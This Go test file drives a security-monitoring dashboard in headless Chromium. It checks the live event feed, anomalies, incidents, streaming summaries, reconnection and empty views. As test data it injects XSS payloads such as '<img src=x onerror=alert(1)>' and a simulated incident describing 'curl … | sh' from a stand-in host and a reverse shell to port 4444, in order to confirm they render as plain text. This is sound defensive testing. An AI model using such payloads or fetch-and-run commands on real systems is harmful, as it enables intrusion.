package ui

import (
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/vigil-dev/vigil/ui/browsertest"
	"github.com/vigil-dev/vigil/ui/hub"
)

// waitClients waits until the hub has n websocket clients, so a message
// published next reaches them.
func waitClients(t *testing.T, s *Server, n int) {
	t.Helper()
	deadline := time.Now().Add(10 * time.Second)
	for s.Hub().Stats().Clients != n {
		if time.Now().After(deadline) {
			t.Fatalf("hub has %d clients, want %d", s.Hub().Stats().Clients, n)
		}
		time.Sleep(20 * time.Millisecond)
	}
}

// TestBrowser drives the embedded dashboard in headless Chromium: a hostile
// exec event shows up in the live feed as text, an incident published live
// can be opened and its summary streams in, and every view renders.
// Screenshots are saved for a human to look at.
func TestBrowser(t *testing.T) {
	b := browsertest.New(t)
	src := newFakeSource()
	s := startServer(t, Options{
		Events: src, Anomalies: src, Incidents: src, Asker: src, Health: src,
		StatsInterval: 250 * time.Millisecond,
	})

	b.Navigate(s.URL())
	if u := browsertest.Eval[string](b, "location.href"); strings.Contains(u, "token=") {
		t.Errorf("token still in the address bar after login: %s", u)
	}
	b.WaitText("#status", "live", 10*time.Second)
	waitClients(t, s, 1)
	b.WaitText("#tiles", "ClickHouse", 5*time.Second)
	b.WaitText("#tiles", "until 04:21 UTC", 5*time.Second) // the Models tile
	b.WaitText("#status", "learning", 5*time.Second)
	time.Sleep(2 * time.Second) // a few chart points
	b.Screenshot("overview")

	// The live feed shows a hostile argv as text.
	b.Click(`#nav a[data-route="feed"]`)
	b.WaitVisible("#feed", 5*time.Second)
	marker := fmt.Sprintf("vigil-marker-%d", time.Now().UnixNano())
	payload := `<img src=x onerror=alert(1)>`
	for i := range 5 {
		s.Hub().Publish("event", Event{
			"kind": "exec", "ts": time.Now().UTC().Format(time.RFC3339Nano), "host": "web-1",
			"pid": 5000 + i, "ppid": 4242, "uid": 33, "gid": 33, "comm": "sh",
			"filename": "/bin/sh", "argv": []string{"sh", "-c", "echo " + payload, fmt.Sprintf("%s-%d", marker, i)},
			"cgroup_id": 1234,
		})
	}
	// Arrow's marshalling of a timestamp without a time zone.
	arrowTS := time.Date(2026, 1, 2, 3, 4, 5, 678901234, time.UTC)
	s.Hub().Publish("event", Event{"kind": "exec", "ts": arrowTS.Format("2006-01-02 15:04:05.999999999"), "host": "web-1", "pid": 6000,
		"ppid": 1, "uid": 0, "comm": "curl", "filename": "/usr/bin/curl", "argv": []string{"curl", "-s", marker}})
	s.Hub().Publish("event", Event{"kind": "tcp", "ts": time.Now().UTC().Format(time.RFC3339Nano), "host": "web-1", "event": "connect",
		"pid": 5004, "comm": "sh", "saddr": "10.0.0.5", "sport": 51240, "daddr": "203.0.113.7", "dport": 4444, "container_id": strings.Repeat("ab", 32)})
	b.WaitText("#feed", marker+"-4", 5*time.Second)
	b.WaitText(`.tab[data-kind="tcp"]`, "1", 5*time.Second)
	if n := b.Count("#feed tbody tr"); n != 6 {
		t.Errorf("feed has %d rows, want 6", n)
	}
	if got := b.Text("#feed tbody tr:first-child td.c-ts"); got != "2026-01-02 03:04:05.678" {
		t.Errorf("time cell %q, want 2026-01-02 03:04:05.678", got)
	}
	if n := b.Count("img"); n != 0 {
		t.Errorf("%d <img> elements in the page: telemetry was rendered as HTML", n)
	}
	if got := b.Text("#feed tbody tr:nth-child(2) td.c-argv"); !strings.Contains(got, payload) {
		t.Errorf("argv cell %q does not show the payload as text", got)
	}
	b.Screenshot("feed")

	// The filter narrows the table to matching rows.
	b.Type("#feed-filter", "curl")
	deadline := time.Now().Add(5 * time.Second)
	for b.Count("#feed tbody tr") != 1 {
		if time.Now().After(deadline) {
			t.Fatalf("filter 'curl' left %d rows, want 1", b.Count("#feed tbody tr"))
		}
		time.Sleep(50 * time.Millisecond)
	}
	b.Click("#feed-filter")
	b.Type("#feed-filter", strings.Repeat("\b", 4))
	for b.Count("#feed tbody tr") != 6 {
		if time.Now().After(deadline) {
			t.Fatalf("clearing the filter left %d rows, want 6", b.Count("#feed tbody tr"))
		}
		time.Sleep(50 * time.Millisecond)
	}

	// Pause holds the table still.
	b.Click("#feed-pause")
	s.Hub().Publish("event", Event{"kind": "exec", "ts": time.Now().UTC().Format(time.RFC3339Nano), "pid": 7000, "comm": "paused-one"})
	b.WaitText("#feed-missed", "1 new", 5*time.Second)
	if strings.Contains(b.Text("#feed"), "paused-one") {
		t.Error("paused feed still updated")
	}
	b.Click("#feed-pause")
	b.WaitText("#feed", "paused-one", 5*time.Second)

	// Anomalies, filterable.
	b.Click(`#nav a[data-route="anomalies"]`)
	b.WaitText("#anomalies", "nginx worker spawned a shell", 5*time.Second)
	b.Screenshot("anomalies")
	// A filter nothing matches says so, and why the page may be quiet.
	b.Type(`input[name="host"]`, "no-such-host")
	b.WaitText("#anomalies", "No anomalies match the filter. Models are learning: new binaries", 5*time.Second)
	// Cleared as a user would select it all and delete (a click would put
	// the caret inside the text).
	browsertest.Eval[bool](b, `(() => { const el = document.querySelector('input[name="host"]'); el.value = "";
		return el.dispatchEvent(new Event("input")); })()`)
	b.WaitText("#anomalies", "nginx worker spawned a shell", 5*time.Second)

	// An incident published live appears in the list; clicking opens it.
	b.Click(`#nav a[data-route="incidents"]`)
	b.WaitText("#incidents", "fsync storm", 5*time.Second)
	live := Incident{ID: "inc-1", Title: fakeIncident.Title, Severity: "critical", State: "summarizing",
		Opened: fakeIncident.Opened, Updated: time.Now(), Hosts: []string{"web-1"}, Anomalies: 2}
	s.Hub().Publish("incident", live)
	b.WaitText("#incidents", "summarizing", 5*time.Second)
	b.Screenshot("incidents")
	b.Click(`#incidents tr[data-id="inc-1"] a`)
	b.WaitText("#sec-process_tree", "curl -s http://203.0.113.7/x", 5*time.Second)
	// A command run through a subshell hangs under the shell that forked it.
	if under := browsertest.Eval[string](b, `(() => { const v = document.querySelector("#sec-process_tree .via");
		if (!v) return "no via"; const li = v.closest("li").parentElement.closest("li");
		return v.textContent + " under " + (li ? li.querySelector(".pid").textContent : "nothing"); })()`); under != " via subshell 4255 under 4242" {
		t.Errorf("subshell child: %q", under)
	}
	// A pid that exec'd twice shows both programs; its child hangs under the
	// one it ran first.
	if under := browsertest.Eval[string](b, `(() => { const out = [];
		for (const li of document.querySelectorAll("#sec-process_tree li")) {
			if (li.querySelector(".pid").textContent !== "4270" && li.querySelector(".pid").textContent !== "4271") continue;
			const up = li.parentElement.closest("li");
			out.push(li.querySelector(".comm").textContent + "<" + (up ? up.querySelector(".comm").textContent : "root")); }
		return out.join(" "); })()`); under != "bash<sh id<bash sleep<sh" {
		t.Errorf("re-exec'd pid: %q", under)
	}
	b.WaitText("#sec-connections", "203.0.113.7:4444", 5*time.Second)
	for _, tok := range []string{"nginx worker 4100 spawned ", "`sh -c 'curl … | sh'`, ", "which fetched a script <script>alert(4)</script> and opened a reverse shell to 203.0.113.7:4444."} {
		s.Hub().Publish("summary_token", SummaryToken{IncidentID: "inc-1", Text: tok})
	}
	b.WaitText("#summary", "opened a reverse shell", 5*time.Second)
	if got := b.Text("#summary"); !strings.Contains(got, "<script>alert(4)</script>") {
		t.Errorf("summary %q: script tag not shown as text", got)
	}
	if n := b.Count("#summary *"); n != 0 {
		t.Errorf("summary has %d child elements; it must be text only", n)
	}
	b.Click("#sec-timeline button.sqltoggle")
	b.WaitVisible("#sec-timeline pre.sql", 5*time.Second)
	b.WaitText("#sec-timeline pre.sql", "incident_timeline", 5*time.Second)
	b.Screenshot("incident")

	// Ask.
	b.Click(`#nav a[data-route="ask"]`)
	b.Type("#question", "which processes talked to new destinations?")
	b.Click(`.askform button[type="submit"]`)
	b.WaitText("#answers", "203.0.113.7", 5*time.Second)
	b.WaitVisible("#answers pre.sql", 5*time.Second)
	b.Screenshot("ask")

	b.Click(`#nav a[data-route="overview"]`)
	b.WaitVisible("#chart-probes .uplot", 5*time.Second)
	if n := b.Count(".uplot"); n != 3 {
		t.Errorf("%d charts on the overview, want 3", n)
	}

	if d := b.Dialogs(); len(d) > 0 {
		t.Errorf("the page opened dialogs (script injection): %q", d)
	}
	if n := b.Count("img, script:not([src])"); n != 0 {
		t.Errorf("%d injected elements", n)
	}
	if errs := b.ConsoleErrors(); len(errs) > 0 {
		t.Errorf("console errors (CSP violations among them):\n%s", strings.Join(errs, "\n"))
	}
}

// TestBrowserReconnectsAndCatchesUp makes the hub drop the page as a slow
// client; the page must reconnect by itself and fetch from the API what it
// missed.
func TestBrowserReconnectsAndCatchesUp(t *testing.T) {
	b := browsertest.New(t)
	src := newFakeSource()
	s := startServer(t, Options{
		Events: src, Health: src, StatsInterval: 250 * time.Millisecond,
		Hub: hub.Options{SendQueue: 4, MaxMissed: 4, Inbox: 1 << 16},
	})
	b.Navigate(s.URL() + "#/feed")
	b.WaitText("#status", "live", 10*time.Second)
	waitClients(t, s, 1)

	// Only the API knows this one.
	marker := fmt.Sprintf("caught-up-%d", time.Now().UnixNano())
	src.add(Event{"kind": "exec", "ts": time.Now().UTC().Format(time.RFC3339Nano), "pid": 1, "comm": "sh", "argv": []string{"echo", marker}})
	deadline := time.Now().Add(10 * time.Second)
	for s.Hub().Stats().Kicked == 0 {
		if time.Now().After(deadline) {
			t.Fatalf("page never dropped as slow: %+v", s.Hub().Stats())
		}
		for range 2000 {
			s.Hub().Publish("event", Event{"kind": "flood", "pid": 2, "comm": strings.Repeat("x", 512)})
		}
		time.Sleep(10 * time.Millisecond)
	}
	b.WaitText("#feed", marker, 15*time.Second)
	deadline = time.Now().Add(10 * time.Second)
	for s.Hub().Stats().Connects < 2 {
		if time.Now().After(deadline) {
			t.Fatalf("page did not reconnect: %+v", s.Hub().Stats())
		}
		time.Sleep(20 * time.Millisecond)
	}
	b.WaitText("#status", "live", 5*time.Second)
	b.Screenshot("after-reconnect")
}

// TestBrowserNoSources: with nothing wired (the walking skeleton) every view
// says what is missing instead of breaking.
func TestBrowserNoSources(t *testing.T) {
	b := browsertest.New(t)
	s := startServer(t, Options{StatsInterval: 250 * time.Millisecond})
	b.Navigate(s.URL())
	b.WaitText("#status", "live", 10*time.Second)
	b.WaitText("#tiles", "not available", 5*time.Second)
	for _, v := range []struct{ route, want string }{
		{"anomalies", "not available"}, {"incidents", "not available"}, {"ask", "not available"}, {"feed", "not available"},
	} {
		b.Click(`#nav a[data-route="` + v.route + `"]`)
		b.WaitText("#view", v.want, 5*time.Second)
	}
	// Live events still show up without an EventSource.
	waitClients(t, s, 1)
	s.Hub().Publish("event", Event{"kind": "exec", "pid": 1, "comm": "only-live"})
	b.WaitText("#view", "only-live", 5*time.Second)
	b.Click(`#nav a[data-route="overview"]`)
	b.WaitText("#ov-incidents", "not available", 5*time.Second)
	b.Screenshot("overview-no-sources")
	if errs := b.ConsoleErrors(); len(errs) > 0 {
		t.Errorf("console errors:\n%s", strings.Join(errs, "\n"))
	}
}
